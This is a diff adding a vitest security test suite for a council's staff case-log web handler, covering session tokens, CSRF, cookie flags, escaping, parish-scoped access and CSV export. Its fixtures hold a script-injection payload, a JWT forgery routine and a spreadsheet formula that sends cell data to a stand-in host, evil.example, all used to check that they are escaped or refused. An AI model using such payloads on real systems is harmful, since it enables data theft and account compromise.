@@ -1,0 +1,426 @@
+import { generateKeyPairSync } from "node:crypto";
+import type { APIGatewayProxyEventV2, APIGatewayProxyStructuredResultV2 } from "aws-lambda";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import type { Case } from "#core/case/case.js";
+import { event as timelineEvent } from "#core/case/timeline.js";
+import type { DispatchJob } from "#core/ports/queue.js";
+import { createDeadLetterCases } from "#core/use-cases/redrive.js";
+import { createStaffActions } from "#core/use-cases/staff-actions.js";
+import { createCaseLogHandler } from "../../functions/http/case-log/case-log-handler.js";
+import { caseLogRoutes } from "../../functions/http/case-log/case-log-routes.js";
+import { createCaseLogRenderer } from "../../functions/http/case-log/render.js";
+import { STAFF_CSRF_COOKIE, STAFF_SESSION_COOKIE } from "../../functions/http/case-log/staff-cookies.js";
+import { createTokenVerifier } from "../../functions/http/case-log/token-verifier.js";
+import { templateDirs } from "../../functions/http/web/render.js";
+import {
+  type LocalIdentityProvider,
+  signRs256,
+  startLocalIdentityProvider,
+} from "../../functions/local/identity-provider.js";
+import { localContext } from "../../functions/local/lambda-context.js";
+import { MemoryCaseStore } from "../helpers/memory-case-store.js";
+
+// The case log's front door, by invoking its handler: every route but sign-in/sign-out needs a
+// valid staff token (pages redirect, data answers 401), and forged, expired and wrongly-signed
+// tokens are refused like none at all. Then the list and case pages for signed-in staff.
+
+const PARISH = { kind: "parish" as const, code: "E04999001", name: "Ashcombe" };
+const DISTRICT = { kind: "district" as const, code: "E07999999", name: "Exampleshire Vale" };
+const OTHER = { kind: "parish" as const, code: "E04999002", name: "Brookfield" };
+
+let idp: LocalIdentityProvider;
+let handler: ReturnType<typeof createCaseLogHandler>;
+const store = new MemoryCaseStore();
+const queued: DispatchJob[] = [];
+const queue = { send: async (job: DispatchJob) => void queued.push(job) };
+const clock = { now: () => new Date() };
+
+beforeAll(async () => {
+  idp = await startLocalIdentityProvider({
+    users: [
+      { email: "staff@example.org", password: "staff-password", groups: ["staff"] },
+      { email: "clerk@example.org", password: "clerk-password", groups: ["clerk"], parish: PARISH.code },
+    ],
+  });
+  handler = createCaseLogHandler({
+    verifier: createTokenVerifier({ issuer: idp.issuer, clientId: idp.clientId }),
+    signIn: async (email, password) => idp.signIn(email, password),
+    caseStore: store,
+    actions: createStaffActions({ caseStore: store, clock, queue }),
+    redrive: createDeadLetterCases({ caseStore: store, clock, queue }).redrive,
+    render: createCaseLogRenderer({ govukFrontend: templateDirs({}).govukFrontend }),
+    councilName: "Exampleshire Vale District Council",
+    areas: [DISTRICT, PARISH, OTHER],
+    cookieSecure: true,
+    pageSize: 2,
+  });
+  await store.create(aCase("SPD-AAAA-AAA4", PARISH, "2026-11-20T09:00:00.000Z"), [
+    timelineEvent(new Date("2026-11-20T09:00:00Z"), "submitted", "Report <b>received</b>"),
+  ]);
+  await store.create(aCase("SPD-AAAA-AAB2", OTHER, "2026-11-21T09:00:00.000Z"), []);
+  await store.create(aCase("SPD-AAAA-AACY", PARISH, "2026-11-22T09:00:00.000Z"), []);
+});
+afterAll(async () => {
+  await idp?.close();
+});
+
+function aCase(reference: string, destination: Case["destination"], createdAt: string): Case {
+  return {
+    reference,
+    service: "speeding",
+    status: "new",
+    delivery: "sent",
+    createdAt,
+    updatedAt: createdAt,
+    answers: { danger: "no" },
+    location: { lat: 54.5, lng: 2.3, postcode: "ZX1 5ZB" },
+    description: `<script>alert("${reference}")</script> & speeding`,
+    reporter: { name: "Ada <i>Resident</i>", email: "ada@example.org", shareWithParish: false },
+    destination,
+    routing: { ruleId: "parish-speedwatch", requested: "parish", area: destination, reason: "in the parish" },
+    retainUntil: Date.parse("2030-01-01T00:00:00Z") / 1000,
+  };
+}
+
+interface Call {
+  method?: string;
+  path: string;
+  query?: string;
+  cookies?: Record<string, string>;
+  form?: Record<string, string>;
+}
+
+async function call({ method = "GET", path, query = "", cookies = {}, form }: Call) {
+  const cookieList = Object.entries(cookies).map(([k, v]) => `${k}=${v}`);
+  const event = {
+    version: "2.0",
+    routeKey: `${method} /{proxy+}`,
+    rawPath: path,
+    rawQueryString: query,
+    ...(cookieList.length ? { cookies: cookieList } : {}),
+    headers: form ? { "content-type": "application/x-www-form-urlencoded" } : {},
+    requestContext: { http: { method, path }, requestId: "test" },
+    ...(form ? { body: new URLSearchParams(form).toString() } : {}),
+    isBase64Encoded: false,
+  } as unknown as APIGatewayProxyEventV2;
+  return (await handler(event, localContext("signpost-case-log"))) as APIGatewayProxyStructuredResultV2;
+}
+
+const cookieValue = (response: APIGatewayProxyStructuredResultV2, name: string) =>
+  response.cookies?.find((c) => c.startsWith(`${name}=`));
+
+async function signIn(email: string, password: string) {
+  const first = await call({ path: "/staff/sign-in" });
+  const csrf = /name="_csrf" value="([a-f0-9]{64})"/.exec(first.body ?? "")?.[1] ?? "";
+  const response = await call({
+    method: "POST",
+    path: "/staff/sign-in",
+    cookies: { [STAFF_CSRF_COOKIE]: csrf },
+    form: { _csrf: csrf, email, password },
+  });
+  const session = cookieValue(response, STAFF_SESSION_COOKIE)?.split(";")[0]?.split("=")[1] ?? "";
+  return { response, csrf, cookies: { [STAFF_CSRF_COOKIE]: csrf, [STAFF_SESSION_COOKIE]: session } };
+}
+
+const nowSeconds = () => Math.floor(Date.now() / 1000);
+const goodClaims = () => ({
+  sub: "00000000-0000-4000-a000-000000000009",
+  iss: idp.issuer,
+  aud: idp.clientId,
+  token_use: "id",
+  "cognito:groups": ["staff"],
+  iat: nowSeconds(),
+  exp: nowSeconds() + 600,
+});
+
+const badTokens: Array<[string, () => string]> = [
+  ["expired", () => idp.signJwt({ ...goodClaims(), iat: nowSeconds() - 7200, exp: nowSeconds() - 60 })],
+  [
+    "wrongly signed",
+    () =>
+      signRs256(
+        goodClaims(),
+        generateKeyPairSync("rsa", { modulusLength: 2048 }).privateKey,
+        idp.jwks().keys[0]?.kid as string,
+      ),
+  ],
+  [
+    "forged (payload edited)",
+    () => {
+      const [h, , s] = idp.signJwt({ ...goodClaims(), "cognito:groups": [] }).split(".");
+      return `${h}.${Buffer.from(JSON.stringify(goodClaims())).toString("base64url")}.${s}`;
+    },
+  ],
+  ["an access token", () => idp.signIn("staff@example.org", "staff-password")?.accessToken ?? ""],
+  ["garbage", () => "abc"],
+];
+
+describe("every case-log route is protected", () => {
+  const PUBLIC = ["GET /staff/sign-in", "POST /staff/sign-in", "POST /staff/sign-out"];
+
+  it("has only the sign-in and sign-out forms public", () => {
+    const open = caseLogRoutes.filter((r) => r.access === "public").map((r) => `${r.method} ${r.example}`);
+    expect(open).toEqual(PUBLIC);
+  });
+
+  const protectedRoutes = caseLogRoutes
+    .filter((r) => r.access !== "public")
+    .map((r) => [`${r.method} ${r.example}`, r] as const);
+
+  it.each(protectedRoutes)("%s refuses a request with no session", async (_, route) => {
+    expect(route.pattern.test(route.example)).toBe(true);
+    const response = await call({ method: route.method, path: route.example });
+    if (route.kind === "page") {
+      expect(response.statusCode).toBe(303);
+      expect(response.headers?.location).toBe("/staff/sign-in");
+    } else {
+      expect(response.statusCode).toBe(401);
+    }
+    expect(response.body ?? "").not.toContain("SPD-AAAA");
+  });
+
+  describe.each(badTokens)("a token that is %s", (_, make) => {
+    it.each(protectedRoutes)("is refused by %s, and the cookie cleared", async (__, route) => {
+      const response = await call({
+        method: route.method,
+        path: route.example,
+        cookies: { [STAFF_SESSION_COOKIE]: make() },
+      });
+      expect(response.statusCode).toBe(route.kind === "page" ? 303 : 401);
+      expect(cookieValue(response, STAFF_SESSION_COOKIE)).toMatch(/Max-Age=0/);
+    });
+  });
+
+  it("asks for sign-in before saying a /staff page does not exist", async () => {
+    const response = await call({ path: "/staff/secret-admin" });
+    expect(response.statusCode).toBe(303);
+  });
+});
+
+describe("sign-in and sign-out", () => {
+  it("refuses a sign-in without the CSRF token", async () => {
+    const response = await call({
+      method: "POST",
+      path: "/staff/sign-in",
+      form: { email: "staff@example.org", password: "staff-password" },
+    });
+    expect(response.statusCode).toBe(403);
+    expect(cookieValue(response, STAFF_SESSION_COOKIE)).toBeUndefined();
+  });
+
+  it("refuses a wrong password with one message for every reason", async () => {
+    const { response } = await signIn("staff@example.org", "not-it");
+    expect(response.statusCode).toBe(400);
+    expect(response.body).toContain("Enter a correct email address and password");
+    expect(response.body).toContain('value="staff@example.org"');
+    expect(cookieValue(response, STAFF_SESSION_COOKIE)).toBeUndefined();
+  });
+
+  it("sets an HttpOnly, Secure, SameSite=Strict session cookie that expires with the token", async () => {
+    const { response } = await signIn("staff@example.org", "staff-password");
+    expect(response.statusCode).toBe(303);
+    expect(response.headers?.location).toBe("/staff/cases");
+    const cookie = cookieValue(response, STAFF_SESSION_COOKIE) ?? "";
+    expect(cookie).toMatch(/; HttpOnly/);
+    expect(cookie).toMatch(/; Secure/);
+    expect(cookie).toMatch(/; SameSite=Strict/);
+    expect(cookie).toMatch(/; Path=\/staff/);
+    const maxAge = Number(/Max-Age=(\d+)/.exec(cookie)?.[1]);
+    expect(maxAge).toBeGreaterThan(3500);
+    expect(maxAge).toBeLessThanOrEqual(3600);
+  });
+
+  it("signs out: the cookie is cleared", async () => {
+    const { cookies, csrf } = await signIn("staff@example.org", "staff-password");
+    const response = await call({ method: "POST", path: "/staff/sign-out", cookies, form: { _csrf: csrf } });
+    expect(response.statusCode).toBe(303);
+    expect(cookieValue(response, STAFF_SESSION_COOKIE)).toMatch(/^signpost_staff_session=; .*Max-Age=0/);
+  });
+});
+
+describe("list and case pages", () => {
+  it("lists cases newest first, a page at a time, with counts", async () => {
+    const { cookies } = await signIn("staff@example.org", "staff-password");
+    const first = await call({ path: "/staff/cases", cookies });
+    expect(first.statusCode).toBe(200);
+    expect(first.headers?.["content-security-policy"]).toContain("frame-ancestors 'none'");
+    const refs = (body: string) => [...body.matchAll(/>(SPD-AAAA-[A-Z0-9]{4})</g)].map((m) => m[1]);
+    expect(refs(first.body ?? "")).toEqual(["SPD-AAAA-AACY", "SPD-AAAA-AAB2"]);
+    expect(first.body).toMatch(/New<\/a>: <strong>3<\/strong>/);
+    const next = /href="\/staff\/cases\?after=([^"]+)"/.exec(first.body ?? "")?.[1] ?? "";
+    const second = await call({ path: "/staff/cases", query: `after=${next}`, cookies });
+    expect(refs(second.body ?? "")).toEqual(["SPD-AAAA-AAA4"]);
+    const filtered = await call({ path: "/staff/cases", query: `destination=${OTHER.code}`, cookies });
+    expect(refs(filtered.body ?? "")).toEqual(["SPD-AAAA-AAB2"]);
+  });
+
+  it("shows a case with everything escaped", async () => {
+    const { cookies } = await signIn("staff@example.org", "staff-password");
+    const response = await call({ path: "/staff/cases/SPD-AAAA-AAA4", cookies });
+    expect(response.statusCode).toBe(200);
+    const body = response.body ?? "";
+    expect(body).not.toContain("<script>alert");
+    expect(body).toContain("&lt;script&gt;alert(&quot;SPD-AAAA-AAA4&quot;)&lt;/script&gt; &amp; speeding");
+    expect(body).toContain("Ada &lt;i&gt;Resident&lt;/i&gt;");
+    expect(body).toContain("Report &lt;b&gt;received&lt;/b&gt;");
+  });
+
+  it("answers 404 for an unknown reference", async () => {
+    const { cookies } = await signIn("staff@example.org", "staff-password");
+    expect((await call({ path: "/staff/cases/SPD-ZZZZ-ZZZ9", cookies })).statusCode).toBe(404);
+  });
+
+  it("shows a clerk only their parish: another parish's case is not found", async () => {
+    const { cookies } = await signIn("clerk@example.org", "clerk-password");
+    const list = await call({ path: "/staff/cases", query: `destination=${OTHER.code}`, cookies });
+    expect(list.body).not.toContain("SPD-AAAA-AAB2");
+    expect(list.body).toContain("SPD-AAAA-AACY");
+    expect((await call({ path: "/staff/cases/SPD-AAAA-AAB2", cookies })).statusCode).toBe(404);
+    const own = await call({ path: "/staff/cases/SPD-AAAA-AAA4", cookies });
+    expect(own.statusCode).toBe(200);
+    // The resident did not agree to share their details with the parish.
+    expect(own.body).not.toContain("ada@example.org");
+    expect((await call({ path: "/staff/cases/counts.json", cookies })).statusCode).toBe(403);
+  });
+});
+
+describe("actions and export", () => {
+  const REF = "SPD-AAAA-AADW";
+  beforeAll(async () => {
+    await store.create(
+      {
+        ...aCase(REF, PARISH, "2026-11-23T09:00:00.000Z"),
+        description: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      },
+      [],
+    );
+  });
+
+  const eventsOf = async (type: string) => (await store.timeline(REF)).filter((e) => e.type === type);
+
+  it("changes status with a reason, once, recording who did it", async () => {
+    const { cookies, csrf } = await signIn("staff@example.org", "staff-password");
+    const post = () =>
+      call({
+        method: "POST",
+        path: `/staff/cases/${REF}/status`,
+        cookies,
+        form: { _csrf: csrf, status: "in-progress", reason: "Passed to the speedwatch team" },
+      });
+    const first = await post();
+    expect(first.statusCode).toBe(303);
+    expect(first.headers?.location).toBe(`/staff/cases/${REF}`);
+    expect((await store.get(REF))?.status).toBe("in-progress");
+    await post();
+    const changes = await eventsOf("status-changed");
+    expect(changes).toHaveLength(1);
+    expect(changes[0]?.actor).toMatch(/^[0-9a-f-]{36}$/);
+    expect(changes[0]?.summary).toContain("Passed to the speedwatch team");
+  });
+
+  it("asks for a reason", async () => {
+    const { cookies, csrf } = await signIn("staff@example.org", "staff-password");
+    const response = await call({
+      method: "POST",
+      path: `/staff/cases/${REF}/status`,
+      cookies,
+      form: { _csrf: csrf, status: "closed", reason: " " },
+    });
+    expect(response.statusCode).toBe(400);
+    expect(response.body).toContain("Enter the reason for the change");
+    expect((await store.get(REF))?.status).toBe("in-progress");
+  });
+
+  it("adds a note once however often the form is sent", async () => {
+    const { cookies, csrf } = await signIn("staff@example.org", "staff-password");
+    const page = await call({ path: `/staff/cases/${REF}`, cookies });
+    const key = /name="_key" value="([0-9a-f-]{36})"/.exec(page.body ?? "")?.[1] ?? "";
+    for (let i = 0; i < 2; i++) {
+      const response = await call({
+        method: "POST",
+        path: `/staff/cases/${REF}/notes`,
+        cookies,
+        form: { _csrf: csrf, _key: key, note: "Rang the clerk <b>twice</b>" },
+      });
+      expect(response.statusCode).toBe(303);
+    }
+    expect(await eventsOf("note")).toHaveLength(1);
+    const after = await call({ path: `/staff/cases/${REF}`, cookies });
+    expect(after.body).toContain("Rang the clerk &lt;b&gt;twice&lt;/b&gt;");
+  });
+
+  it("refuses an action without the CSRF token", async () => {
+    const { cookies } = await signIn("staff@example.org", "staff-password");
+    const response = await call({
+      method: "POST",
+      path: `/staff/cases/${REF}/status`,
+      cookies,
+      form: { status: "closed", reason: "forged" },
+    });
+    expect(response.statusCode).toBe(403);
+    expect((await store.get(REF))?.status).toBe("in-progress");
+  });
+
+  it("does not let a clerk act on another parish's case", async () => {
+    const { cookies, csrf } = await signIn("clerk@example.org", "clerk-password");
+    const response = await call({
+      method: "POST",
+      path: "/staff/cases/SPD-AAAA-AAB2/notes",
+      cookies,
+      form: { _csrf: csrf, _key: "00000000-0000-4000-a000-000000000000", note: "x" },
+    });
+    expect(response.statusCode).toBe(404);
+  });
+
+  it("exports the filter as spreadsheet-safe CSV without residents' details", async () => {
+    const { cookies } = await signIn("staff@example.org", "staff-password");
+    const response = await call({ path: "/staff/cases.csv", query: `destination=${PARISH.code}`, cookies });
+    expect(response.statusCode).toBe(200);
+    expect(response.headers?.["content-type"]).toBe("text/csv; charset=utf-8");
+    expect(response.headers?.["content-disposition"]).toContain("attachment");
+    const lines = (response.body ?? "").trim().split("\r\n");
+    expect(lines).toHaveLength(4);
+    expect(lines[1]).toContain(`"${REF}"`);
+    expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
+    expect(response.body).not.toContain("ada@example.org");
+    expect(response.body).not.toContain("SPD-AAAA-AAB2");
+  });
+
+  it("re-routes a case to the district and queues it to be sent again, once", async () => {
+    const { cookies, csrf } = await signIn("staff@example.org", "staff-password");
+    const page = await call({ path: `/staff/cases/${REF}`, cookies });
+    expect(page.body).toContain('id="reroute"');
+    const before = queued.length;
+    for (let i = 0; i < 2; i++) {
+      const response = await call({
+        method: "POST",
+        path: `/staff/cases/${REF}/reroute`,
+        cookies,
+        form: { _csrf: csrf, destination: DISTRICT.code },
+      });
+      expect(response.statusCode).toBe(303);
+    }
+    const after = await store.get(REF);
+    expect(after?.destination).toEqual(DISTRICT);
+    expect(after?.delivery).toBe("queued");
+    expect(queued.slice(before)).toEqual([{ reference: REF }]);
+    expect(await eventsOf("rerouted")).toHaveLength(1);
+  });
+
+  it("re-drives a failed case, and only a failed or unconfirmed one", async () => {
+    const { cookies, csrf } = await signIn("staff@example.org", "staff-password");
+    const ref = "SPD-AAAA-AAET";
+    await store.create({ ...aCase(ref, PARISH, "2026-11-23T10:00:00.000Z"), delivery: "failed" }, []);
+    const page = await call({ path: `/staff/cases/${ref}`, cookies });
+    expect(page.body).toContain("Send the email again");
+    const before = queued.length;
+    const post = () =>
+      call({ method: "POST", path: `/staff/cases/${ref}/redrive`, cookies, form: { _csrf: csrf } });
+    expect((await post()).statusCode).toBe(303);
+    expect((await post()).statusCode).toBe(303);
+    expect(queued.slice(before)).toEqual([{ reference: ref }]);
+    expect((await store.get(ref))?.delivery).toBe("queued");
+    const again = await call({ path: `/staff/cases/${ref}`, cookies });
+    expect(again.body).not.toContain("Send the email again");
+  });
+});
